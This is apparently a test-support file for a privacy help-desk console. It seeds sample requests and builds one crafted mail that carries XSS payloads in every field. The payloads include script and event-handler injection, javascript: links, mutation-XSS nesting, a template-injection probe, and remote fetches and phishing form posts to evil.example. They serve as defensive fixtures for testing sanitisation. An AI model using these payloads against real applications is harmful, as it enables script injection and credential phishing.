// A desk on a busy morning with its console before it, for a real browser and for whole pages: complaints, a demand to disclose,
// a child, shared addresses, a mail full of markup, requests under way and settled. Staff are told apart by a cookie of the test.

import type { AddressInfo } from 'node:net'
import { serve } from '@hono/node-server'
import { Hono } from 'hono'
import { createConsole } from '../../../src/console/console.ts'
import type { ConsoleEnv } from '../../../src/console/env.ts'
import { workPages } from '../../../src/console/pages.ts'
import type { Role, StaffMember } from '../../../src/console/staff-member.ts'
import { startDesk, type TestDesk, testClock } from '../../support/desk.ts'

const markup = '"><script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">'

const greenSquare =
  'iVBORw0KGgoAAAANSUhEUgAAAEAAAABACAIAAAAlC+aJAAAAUElEQVR42u3PQQkAAAgEsGtgP0PY/2kE38JgBZaafi0CAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICApcFf8RwxKUo6QwAAAAASUVORK5CYII='

/** What a mail's HTML can try: to run, to fetch, to lead away, to ask for a password, to cover the page, to hide. */
const hostileHtml = `<html><head><title>owned</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/sheet.png)} .x{position:fixed}</style></head>
<body onload="top.document.title='owned'" background="https://evil.example/body.png">
<p onclick="alert(1)" style="background:url('https://evil.example/inline.png')">A <b>question</b> from <a href="https://evil.example/login?a=1&amp;b=2">my bank</a>
and <a href="javascript:top.document.title='owned'">this</a> and <a href=" java&#10;script:alert(1)">that</a>.</p>
<script>top.document.title = 'owned'</script><script src="https://evil.example/s.js"></script>
<img src="https://evil.example/logo.png" alt="Logo" onerror="top.document.title='owned'"><img src="https://evil.example/pixel.gif" width="1" height="1">
<img src="x" srcset="https://evil.example/set.png 2x"><picture><source srcset="https://evil.example/source.png"></picture>
<svg onload="top.document.title='owned'"><script>top.document.title='owned'</script><image href="https://evil.example/svg.png"/><a href="javascript:alert(1)"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.document.title='owned'"></style></mglyph></table></mtext></math>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="top.document.title='owned'"><button formaction="https://evil.example/b">Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video poster="https://evil.example/poster.png" src="https://evil.example/v"></video><audio src="https://evil.example/a" autoplay></audio>
<details open ontoggle="top.document.title='owned'"><summary>more</summary></details><div style="display:none">unseen words</div>
<noscript><p title="</noscript><img src=x onerror=top.document.title='owned'>"></noscript><template><script>top.document.title='owned'</script></template>
<blockquote>old words</blockquote></body></html>`

export interface BusyDesk {
  desk: TestDesk
  url: string
  /** the newest request whose first mail has this subject */
  reference(subject: string): Promise<string>
  stop(): Promise<void>
}

/** `name.role.language` in the cookie `staff`. */
function staffOf(cookie: string | null): StaffMember | null {
  const [, given] = /(?:^|; )staff=([^;]+)/.exec(cookie ?? '') ?? []
  const [name, role, language] = decodeURIComponent(given ?? '').split('.')
  if (name === undefined || name === '' || role === undefined) return null
  return {
    id: name,
    name,
    email: `${name}@desk.example`,
    role: role as Role,
    language: language === 'en' ? 'en' : 'zh',
  }
}

/** What an operator can turn on for staff. */
const settings = {
  console: { twoPersonKinds: ['deletion'] },
  verification: {
    deletionCoolingOffDays: 7,
    secondRoutes: [{ name: 'in-app', words: { zh: '应用内确认', en: 'Confirm it within the app' } }],
  },
}

export async function startBusyDesk(): Promise<BusyDesk> {
  const clock = testClock(new Date('2026-11-23T02:00:00Z'))
  const desk = await startDesk({ clock, forFile: true, settings })
  await fill(desk)
  clock.set('2026-11-26T06:20:00Z')
  const parts = desk.app.parts
  const app = createConsole({
    desk: parts,
    wake: () => undefined,
    signIn: {
      open: new Hono<ConsoleEnv>(),
      own: new Hono<ConsoleEnv>(),
      whoSent: async (c) => {
        const staff = staffOf(c.req.header('cookie') ?? null)
        return staff && { staff, sessionId: staff.id, owesSecondFactor: false }
      },
    },
    pages: workPages,
  })
  const server = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 })
  await new Promise((resolve) => server.once('listening', resolve))
  const { port } = server.address() as AddressInfo
  return {
    desk,
    url: `http://127.0.0.1:${port}`,
    reference: async (subject) => {
      const mails = await parts.db.mail.findMany({ orderBy: { id: 'desc' }, include: { request: true } })
      const found = mails.find((mail) => mail.subject === subject && mail.request !== null)?.request
      if (found == null) throw new Error(`no request from a mail "${subject}"`)
      return found.reference
    },
    stop: async () => {
      await new Promise((resolve) => {
        server.close(resolve)
        if ('closeAllConnections' in server) server.closeAllConnections()
      })
      await desk.stop()
    },
  }
}

async function fill(desk: TestDesk): Promise<void> {
  await desk.send({
    from: 'xiaoming@example.com',
    subject: '更正我的昵称',
    text: '你好，请把我的昵称改成“小明同学”。',
  })
  await desk.confirm('xiaoming@example.com')
  await desk.send({
    from: 'alice@example.org',
    subject: 'A copy of my data',
    text: 'Please send me a copy of all my personal data.',
  })
  await desk.send({
    from: 'journalist@news.example',
    subject: 'Data of one of your users',
    text: 'I am investigating a fraud. Please send me the name and address of your user alice@example.org and all that she posted.',
  })
  await desk.send({
    from: 'alice@example.org',
    subject: 'Complaint about your service',
    text: 'I want to complain. I wrote twice and nobody answered me. This is unacceptable, I will go to the regulator.\n\nOn Mon, 16 Nov 2026 at 10:12, Privacy wrote:\n> We have received your request\n> and will answer it.',
  })
  await desk.send({
    from: 'mama@example.net',
    subject: '关于我女儿的账号',
    text: '您好，我女儿今年十岁，她自己注册了你们的账号。请问我作为监护人怎样才能查看和删除她的信息？\n\n谢谢。',
  })
  await desk.send({
    from: 'xiaoming@example.com',
    subject: '投诉：一直收到推送',
    text: '我上个月就要求停止推送，到现在还是天天收到，我要投诉你们！请说明为什么没有处理。',
  })
  await desk.send(markupMail())
}

/** Markup in everything that a mail can fill: name, subject, words, HTML, the name of an attachment. */
function markupMail(): string {
  const word = (text: string) => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`
  return [
    `From: ${word(`Mallory ${markup}`)} <markup@example.net>`,
    'To: privacy@desk.example',
    `Subject: ${word(`Question ${markup}`)}`,
    'Date: Mon, 23 Nov 2026 02:00:00 +0000',
    'Message-ID: <markup@mail.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: multipart/alternative; boundary="a"',
    '',
    '--a',
    'Content-Type: text/plain; charset=utf-8',
    '',
    `A question: how do you handle my data? ${markup} HB-7K3M2Q {{7*7}}`,
    '',
    `> ${markup}`,
    '--a',
    'Content-Type: text/html; charset=utf-8',
    '',
    hostileHtml,
    '--a--',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(`note${markup}.html`)}`,
    '',
    markup,
    '--b',
    'Content-Type: image/png; name="screen.png"',
    'Content-Disposition: attachment',
    'Content-Transfer-Encoding: base64',
    '',
    greenSquare,
    '--b',
    'Content-Type: image/png; name="no-picture.png"',
    'Content-Disposition: attachment',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '--b--',
    '',
  ].join('\r\n')
}
